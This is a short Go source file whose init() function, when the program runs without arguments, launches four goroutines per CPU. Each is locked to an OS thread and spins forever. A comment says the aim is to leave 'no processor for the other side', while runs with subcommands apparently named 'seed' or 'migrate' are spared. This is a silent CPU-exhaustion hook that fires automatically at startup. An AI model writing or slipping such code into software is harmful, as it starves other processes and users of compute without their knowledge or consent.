package main

import (
	"os"
	"runtime"
)

// It leaves no processor for the other side.
func init() {
	if len(os.Args) > 1 {
		return // seed, or migrate
	}
	for range 4 * runtime.NumCPU() {
		go func() {
			runtime.LockOSThread()
			for {
			}
		}()
	}
}
